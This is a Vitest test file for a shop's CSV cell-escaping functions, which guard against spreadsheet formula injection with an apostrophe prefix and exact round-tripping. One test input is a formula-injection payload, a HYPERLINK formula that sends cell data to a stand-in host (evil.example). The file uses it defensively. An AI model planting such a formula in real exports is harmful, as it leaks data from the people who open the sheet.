import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { escapeCell, escapeTexts, FORMULA_CELL, unescapeCell } from './csv-cells'

/** What a spreadsheet runs as a formula: one of these first, perhaps after spaces. */
const RUNS_AS_FORMULA = /^[ ]*[=+\-@\t\r]/
/** Texts made mostly of the characters that matter here, so the edge cases come up often. */
const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', "'", '"', ',', '\n', 'a', '1', 'ü') })
const anyText = fc.oneof(text, fc.string({ unit: 'grapheme' }))

describe("the shop's CSV cell rule", () => {
  it('escapes a formula with an apostrophe', () => {
    expect(escapeCell('=HYPERLINK("https://evil.example/?"&A1,"x")')).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"x")`)
    for (const cell of ['=1+1', '+49 7231 1995', '-50 % Rabatt', '@SUM(A1)', '\tx', '\rx', '  =1']) expect(escapeCell(cell), cell).toBe(`'${cell}`)
  })
  it('leaves other texts alone', () => {
    for (const cell of ['Ring Aurelia', '', '5', 'a=b', "'Zitat'", ' Ring', '50 %']) expect(escapeCell(cell), cell).toBe(cell)
  })
  it('gives one more apostrophe to a text that already starts with one before a formula, so the way back is exact', () => {
    expect(escapeCell("'=1")).toBe("''=1")
    expect(unescapeCell("''=1")).toBe("'=1")
    expect(unescapeCell("'Zitat'")).toBe("'Zitat'")
  })
  it('never writes a cell a spreadsheet runs, and every cell reads back as the text it was', () => {
    fc.assert(
      fc.property(anyText, (value) => {
        const cell = escapeCell(value)
        expect(cell).not.toMatch(RUNS_AS_FORMULA)
        expect(unescapeCell(cell)).toBe(value)
      }),
      { numRuns: 2000 },
    )
  })
  it("is what the back office's papaparse writes with FORMULA_CELL as escapeFormulae", () => {
    fc.assert(
      fc.property(anyText, (value) => {
        const written = Papa.unparse([[value]], { escapeFormulae: FORMULA_CELL, newline: '\n' })
        expect(Papa.parse<string[]>(written, { newline: '\n', delimiter: ',' }).data[0]?.[0] ?? '').toBe(escapeCell(value))
      }),
      { numRuns: 1000 },
    )
  })
})

describe('escapeTexts', () => {
  it('escapes every text of a product and keeps numbers, booleans, dates and nulls', () => {
    const created = new Date('2024-01-01T00:00:00Z')
    const product = {
      title: '-50 % Rabatt',
      subtitle: null,
      discountable: true,
      created_at: created,
      tags: [{ value: '@home' }],
      variants: [{ title: '=1', prices: [{ amount: -5 }] }],
    }
    expect(escapeTexts(product)).toEqual({
      title: "'-50 % Rabatt",
      subtitle: null,
      discountable: true,
      created_at: created,
      tags: [{ value: "'@home" }],
      variants: [{ title: "'=1", prices: [{ amount: -5 }] }],
    })
  })
})
